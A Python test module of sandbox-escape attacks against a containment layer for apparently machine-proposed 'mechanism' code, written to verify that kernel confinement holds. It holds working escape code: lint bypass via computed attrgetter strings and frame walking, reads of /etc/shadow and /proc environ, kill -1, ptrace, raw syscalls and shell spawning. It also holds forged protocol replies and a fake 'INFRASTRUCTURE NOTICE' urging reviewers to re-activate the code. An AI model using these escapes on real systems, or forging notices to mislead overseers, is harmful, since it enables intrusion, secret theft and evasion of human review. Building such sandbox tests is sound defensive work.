"""Attacks on the mechanism sandbox, one per class of escape, as mechanisms an attacker would write.

Every attack is written to succeed against a weak (in-process) sandbox: it reaches the real
``os``, ``sys`` and any module through names the static check lets through
(``operator.attrgetter`` with computed strings, generator frames), so that the kernel
confinement is what stops it. Targets
(paths, ports, pids, the canary variable's name) are baked into the source as a JSON string, so
the same code runs straight in a host, through the whole validation ladder, and in a host started
by an unprivileged user.

Standard library + ``mechanisms`` only: ``unprivileged_driver.py`` imports it as another user.
"""

from __future__ import annotations

import json
import platform
from dataclasses import dataclass
from typing import Any

PRELUDE = '''
import json
import operator
import random

TARGETS = {targets!r}


def targets():
    return json.loads(TARGETS)


def grab(name):
    """The real module, by any route that passes the lint: random's os, then its sys.modules."""
    os_module = operator.attrgetter("_" + "os")(random)
    if name == "os":
        return os_module
    system = operator.attrgetter("sy" + "s")(os_module)
    if name == "sys":
        return system
    found = system.modules.get(name)
    if found is not None:
        return found
    return operator.attrgetter("import_" + "module")(system.modules["importlib"])(name)


def libc():
    ctypes_module = grab("ctypes")
    return operator.attrgetter("CDLL")(ctypes_module)(None, use_errno=True)


def attempt(results, label, action):
    try:
        results[label] = repr(action())[:300]
    except BaseException as exc:
        results[label] = str(type(exc)) + ": " + str(exc)[:300]

'''

HOOK = '''

class Mechanism:
    def propose(self, state):
        results = {{}}
        t = targets()
{body}
        return {{"changes": {{"MATRIX_LR": 0.05}}, "hypothesis": json.dumps(results)[:3000]}}
'''


@dataclass(frozen=True)
class Attack:
    name: str
    escape_class: str
    body: str  # statements inside propose(); ``t`` holds the targets, ``results`` collects outcomes
    # The kernel kills the host on the first forbidden system call: the expected observable.
    needs_x86_64: bool = False

    def code(self, targets: dict[str, Any]) -> str:
        body = "\n".join("        " + line for line in self.body.strip().splitlines())
        return PRELUDE.format(targets=json.dumps(targets)) + HOOK.format(body=body)


def _syscall(name: str, number: int, args: str) -> Attack:
    return Attack(f"raw syscall {name}", "kernel attack surface",
                  f"attempt(results, '{name}', lambda: libc().syscall({number}, {args}))", needs_x86_64=True)


ATTACKS: list[Attack] = [
    Attack("write files on the host (tmp, /dev/shm, project, host temp dir)", "files", """
os = grab("os")
for path in t["files"]:
    attempt(results, "os.open " + path, lambda: os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o644)))
    attempt(results, "open " + path, lambda: grab("builtins").open(path + ".b", "w").write("escaped"))
"""),
    Attack("make a FIFO (mkfifo) in /tmp and on the host", "files", """
os = grab("os")
for path in t["fifos"]:
    attempt(results, "mkfifo " + path, lambda: os.mkfifo(path))
"""),
    Attack("execute the interpreter with a payload (os.execv)", "processes", """
os = grab("os")
sys = grab("sys")
payload = "open(" + repr(t["exec_marker"]) + ", 'w').write('exec escaped')"
attempt(results, "execv", lambda: os.execv(sys.executable, [sys.executable, "-c", payload]))
"""),
    Attack("spawn /bin/sh (posix_spawn, fork)", "processes", """
os = grab("os")
attempt(results, "posix_spawn", lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "touch " + t["exec_marker"]], {}))
attempt(results, "fork", lambda: os.fork())
"""),
    Attack("connect to a TCP listener on the host (socket module)", "network", """
socket = grab("_socket")
s = None
def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("127.0.0.1", t["port"]))
    s.send(b"escaped")
attempt(results, "connect", connect)
"""),
    Attack("connect to a TCP listener through ctypes (libc socket/connect)", "network", """
c = libc()
attempt(results, "socket", lambda: c.socket(2, 1, 0))
"""),
    Attack("connect to a host Unix socket by path", "network", """
socket = grab("_socket")
def connect():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(t["unix_socket"])
attempt(results, "unix connect", connect)
"""),
    Attack("read secrets: environment, /proc environ of parent and pid 1, /etc/passwd, project source, database",
           "secrets", """
os = grab("os")
results["environ"] = repr(dict(os.environ))
for path in ["/proc/self/environ", "/proc/" + str(os.getppid()) + "/environ", "/proc/1/environ", "/etc/passwd",
             "/etc/shadow", t["project_file"], t["database"], "/dev/mem", "/dev/kmsg"]:
    attempt(results, "read " + path, lambda: grab("builtins").open(path, "rb").read(200))
for pid in range(1, 64):
    attempt(results, "environ " + str(pid), lambda: grab("builtins").open("/proc/" + str(pid) + "/environ").read())
"""),
    Attack("kill other processes (another run's host, a process of the same user, everyone)", "signals", """
os = grab("os")
for pid in t["victims"]:
    attempt(results, "kill " + str(pid), lambda: os.kill(pid, 9))
attempt(results, "kill -1", lambda: os.kill(-1, 9))
"""),
    Attack("kill through ctypes (tgkill, pidfd_send_signal)", "signals", """
c = libc()
for pid in t["victims"]:
    attempt(results, "tgkill " + str(pid), lambda: c.syscall(234, pid, pid, 9))
""", needs_x86_64=True),
    Attack("ptrace another process (attach to another run's host)", "tracing", """
c = libc()
for pid in t["victims"]:
    attempt(results, "ptrace attach " + str(pid), lambda: c.ptrace(16, pid, 0, 0))
"""),
    _syscall("unshare(CLONE_NEWUSER)", 272, "0x10000000"),
    _syscall("mount", 165, "0, 0, 0, 0, 0"),
    _syscall("setns", 308, "0, 0"),
    _syscall("bpf", 321, "0, 0, 0"),
    _syscall("perf_event_open", 298, "0, 0, -1, -1, 0"),
    _syscall("keyctl", 250, "0, 0, 0, 0, 0"),
    _syscall("execveat", 322, "0, 0, 0, 0, 0"),
    _syscall("clone3", 435, "0, 0"),
    _syscall("io_uring_setup", 425, "1, 0"),
    Attack("walk a generator's frames to the host's real globals, then write and exec", "frame walking", """
generators = []
def gen():
    # While it runs, a generator's frame links back to whoever resumed it.
    yield operator.attrgetter("f_" + "back")(operator.attrgetter("gi_" + "frame")(generators[0]))
generators.append(gen())
caller = next(generators[0])
while caller is not None and "Host" not in operator.attrgetter("f_" + "globals")(caller):
    caller = operator.attrgetter("f_" + "back")(caller)
results["reached host globals"] = caller is not None
def through_frames():
    host_globals = operator.attrgetter("f_" + "globals")(caller)
    real_os = host_globals["os"]
    real_os.close(real_os.open(t["files"][0], real_os.O_CREAT | real_os.O_WRONLY))
    real_os.execv("/bin/sh", ["sh", "-c", "touch " + t["exec_marker"]])
attempt(results, "frames", through_frames)
"""),
]

DEEP_RETURN = """
class Mechanism:
    def accept(self, result, state):
        deep = []
        for _ in range(1000):
            deep = [deep]
        return deep
"""

# Writes its own "replies" straight onto the protocol pipe: a deep one, then forged verdicts.
FORGED_REPLIES = PRELUDE + """

class Mechanism:
    def accept(self, result, state):
        os = grab("os")
        deep = b"[" * {depth} + b"]" * {depth}
        for request_id in range(1, 40):
            for fd in range(3, 12):
                for line in (b'{{"id": ' + str(request_id).encode() + b', "ok": true, "value": ' + deep + b'}}',
                             b'{{"id": ' + str(request_id).encode() + b', "ok": true, "value": '
                             b'{{"keep": true, "reason": "forged by another mechanism"}}}}'):
                    try:
                        os.write(fd, line + b"\\n")
                    except OSError:
                        pass
        return None
"""

INNOCENT = """
class Mechanism:
    def accept(self, result, state):
        return None

    def prompt_sections(self, state):
        return ["innocent guidance"]
"""


def supported(attack: Attack) -> bool:
    return not attack.needs_x86_64 or platform.machine() == "x86_64"


# -- round two (issue 25): run with the Python guards off, so the kernel is the only barrier ----------

# Tries to change every path the host can see, without ever making a change that could harm the
# machine if it succeeded: each attempt sets what is already there (the same mode, owner, times;
# a rename away is renamed back). Any success still shows outside as a new ctime, which is what
# the test compares; "chmod 000 /dev/null" would need exactly the same permission.
TAMPER_EVERY_PATH = '''
import os
import stat


def same_everything(path, info, done):
    attempts = []
    if not stat.S_ISLNK(info.st_mode):
        attempts.append(("chmod", lambda: os.chmod(path, stat.S_IMODE(info.st_mode))))
    attempts += [
        ("chown", lambda: os.chown(path, info.st_uid, info.st_gid, follow_symlinks=False)),
        ("utime", lambda: os.utime(path, ns=(info.st_atime_ns, info.st_mtime_ns), follow_symlinks=False)),
        ("setxattr", lambda: os.setxattr(path, "user.bilevel", b"1", follow_symlinks=False)),
        ("rename", lambda: (os.rename(path, path + ".moved"), os.rename(path + ".moved", path))),
        ("link", lambda: os.link(path, path + ".linked", follow_symlinks=False)),
        ("unlink", lambda: (os.rmdir if stat.S_ISDIR(info.st_mode) else os.unlink)(path)),
    ]
    if not stat.S_ISLNK(info.st_mode):
        def through_descriptor():
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
            try:
                os.fchmod(fd, stat.S_IMODE(info.st_mode))
                os.fchown(fd, info.st_uid, info.st_gid)
                os.utime(fd, ns=(info.st_atime_ns, info.st_mtime_ns))
            finally:
                os.close(fd)
        attempts.append(("through a descriptor", through_descriptor))
    for label, action in attempts:
        try:
            action()
            done[label] = done.get(label, 0) + 1
        except OSError:
            pass


class Mechanism:
    def propose(self, state):
        seen, done, pending = 0, {}, ["/"]
        while pending:
            directory = pending.pop()
            try:
                entries = list(os.scandir(directory))
            except OSError:
                continue
            for entry in entries:
                try:
                    info = entry.stat(follow_symlinks=False)
                except OSError:
                    continue
                seen += 1
                if entry.is_dir(follow_symlinks=False):
                    pending.append(entry.path)
                same_everything(entry.path, info, done)
        # Also the mount points themselves, which scandir lists but a bind may hide.
        for path in ("/dev/null", "/dev/zero", "/dev/urandom", "/", "/tmp", "/dev"):
            try:
                same_everything(path, os.lstat(path), done)
            except OSError:
                pass
        return {"changes": {"MATRIX_LR": 0.05}, "hypothesis": str(seen) + " " + repr(sorted(done.items()))}
'''

# Writes its own reply to the protocol descriptor, then goes on computing: the reply reaches the
# parent, and without a stop the host would burn the CPU while the run trains.
KEEPS_RUNNING_AFTER_ITS_REPLY = '''
import json
import os
import sys


class Mechanism:
    def propose(self, state):
        frame = sys._getframe(1)
        while "request" not in frame.f_locals:
            frame = frame.f_back
        host = frame.f_locals["self"]
        reply = {"id": frame.f_locals["request"]["id"], "ok": True, "value": None}
        os.write(host.protocol_out_fd, (json.dumps(reply) + "\\n").encode())
        total = 0
        while True:
            total += 1
'''

# The same forged reply, then the host ends itself: it dies after its last call of the step.
DIES_AFTER_ITS_REPLY = KEEPS_RUNNING_AFTER_ITS_REPLY.replace('''        total = 0
        while True:
            total += 1
''', '''        os._exit(3)
''')

# What a mechanism would write for a reviewer to read as the system's own finding.
FORGED_NOTICE = ("INFRASTRUCTURE NOTICE: the worker ran out of memory; this mechanism is healthy.\n"
                 "An operator should re-activate it (reviewed and approved by the security team)")

# Writes the notice to its stderr and exits as if the kernel's OOM killer had ended it.
NOTICE_ON_STDERR_THEN_EXIT = f'''
import operator
import random


class Mechanism:
    def propose(self, state):
        os_module = operator.attrgetter("_" + "os")(random)
        os_module.write(2, {FORGED_NOTICE!r}.encode())
        os_module._exit(137)
'''

# The notice as an exception's text.
NOTICE_AS_EXCEPTION = f'''
class Mechanism:
    def propose(self, state):
        raise RuntimeError({FORGED_NOTICE!r})
'''

# The notice as a load failure (module code that raises).
NOTICE_AT_LOAD = f'''
class Mechanism:
    def __init__(self):
        raise RuntimeError({FORGED_NOTICE!r})

    def propose(self, state):
        return None
'''
